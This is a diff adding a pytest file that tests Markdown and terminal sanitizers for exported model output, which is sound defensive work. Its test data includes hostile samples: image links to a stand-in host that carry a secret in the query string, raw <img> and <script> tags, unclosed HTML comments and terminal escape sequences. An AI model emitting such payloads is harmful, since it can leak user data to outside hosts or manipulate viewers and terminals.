@@ -1,0 +1,134 @@
+"""A model's words in an exported file must not phone home from a viewer, hide what follows, or steer a terminal."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from tui.formats.neutral import neutral, plain
+
+PARSER = MarkdownIt("commonmark").enable("table")
+
+
+def kinds(text: str) -> set[str]:
+    found = set()
+    for token in PARSER.parse(text):
+        found.add(token.type)
+        found.update(child.type for child in token.children or ())
+    return found
+
+
+def words(text: str) -> str:
+    return "".join(
+        child.content for token in PARSER.parse(text) for child in token.children or () if child.type != "image"
+    )
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](http://evil/?q=secret)",
+        "![x][ref]\n\n[ref]: http://evil/",
+        "![ref]\n\n[ref]: http://evil/",
+        "[![x](http://evil/)](http://evil/)",
+        "<img src=http://evil/>",
+        "text <img src=http://evil/> text",
+        "<!-- everything after this is gone",
+        "<details><summary>fake",
+        "</details>",
+        "<script>alert(1)",
+        "<?php",
+        "<!DOCTYPE html>",
+        "<![CDATA[",
+        r"\\![x](http://evil/)",
+        r"\\<img src=http://evil/>",
+        r"\` ![x](http://evil/) `",
+        "` | ![x](http://evil/) `\n\n| a ` | ![x](http://evil/) ` |\n|---|---|\n| ` | ![x](http://evil/) ` |",
+        "| a | b |\n|---|---|\n| ` | ![x](http://evil/) ` |",
+        "`` ` ![x](http://evil/)",
+        "- item\n\n  ![x](http://evil/)",
+        "> ![x](http://evil/)",
+        "# `\n![x](http://evil/) `",
+        "```\ncode\n```\n![x](http://evil/)",
+        "<div>\n```\n![x](http://evil/)\n```\n</div>",
+        "1. `\n2. ![x](http://evil/) `",
+        "[a](<b> ![x](http://evil/)",
+        "!\\[x](http://e) ![x\n](http://evil/)",
+    ],
+)
+def test_pictures_and_html_become_words(hostile: str) -> None:
+    assert not kinds(neutral(hostile)) & {"image", "html_inline", "html_block"}
+
+
+@pytest.mark.parametrize(
+    "harmless",
+    [
+        "plain words, 1 < 2 and 2 > 1",
+        "# Head\n\n- a *b* **c** `d`\n- [link](http://example.org)",
+        "`![x](u)` and ``<b>` ``",
+        "```html\n<img src=x>\n![x](u)\n```",
+        "    <indented>\n    ![code](u)",
+        "- item\n  ```\n  <in a list>\n  ```",
+        "<https://example.org> and <someone@example.org>",
+        r"\![x](u) \<b>",
+        "| a | b |\n|---|---|\n| `<b>` | 2 |",
+    ],
+)
+def test_code_links_and_what_is_escaped_already_stay_as_written(harmless: str) -> None:
+    assert neutral(harmless) == harmless
+
+
+def test_a_neutralised_picture_still_shows_its_words() -> None:
+    assert neutral("see ![a cat](http://x/cat.png)!") == "see \\![a cat](http://x/cat.png)!"
+    assert words(neutral("a <b>bold</b> move")) == "a <b>bold</b> move"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["```python\nprint(1)", "~~~~\ncode\n~~~", "text\n\n```", "````\n```\n```\ncode", "```\ncode\n``` not the end"],
+)
+def test_an_open_fence_ends_with_its_message(text: str) -> None:
+    closed = neutral(text)
+    assert closed.startswith(text)
+    assert "heading_open" in kinds(f"{closed}\n\n## Next")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "```\ncode\n```",
+        "- item\n  ```\n  open in a list",
+        "1. item\n   ```\n   open in a list",
+        "> ```\n> open in a quote",
+        "````\n```\n````",
+        "a ``` b",
+    ],
+)
+def test_a_fence_that_ends_by_itself_is_left_alone(text: str) -> None:
+    assert neutral(text) == text
+    assert "heading_open" in kinds(f"{text}\n\n## Next")
+
+
+PIECES = (
+    *("![", "](", ")", "[", "]", "<", "img ", "/>", "-->", "<!--", "`", "``", "```", "~~~", "\n", "\n\n", " ", "    "),
+    *("\\", "|", "|---|", "- ", "> ", "1. ", "a", "b", "http://x", "&lt;", "!", "#", "\t"),
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
+def test_nothing_comes_alive_however_it_is_put_together(text: str) -> None:
+    written = f"{neutral(text)}\n\n## Next"
+    assert not kinds(written) & {"image", "html_inline", "html_block"}
+    assert any(token.type == "heading_open" and token.level == 0 for token in PARSER.parse(written)[-3:])
+
+
+def test_controls_become_visible() -> None:
+    assert neutral("a\x1b]0;pwned\x07b\x9bc‮d") == "a␛]0;pwned␇b\\<U+009B>c\\<U+202E>d"
+
+
+def test_a_line_of_words_has_no_meaning_in_markdown() -> None:
+    hostile = "# [a](b) *c* `d` <e> ![f](g) | h\n## i"
+    line = plain(hostile)
+    assert "\n" not in line
+    assert kinds(line) == {"paragraph_open", "inline", "paragraph_close", "text"}
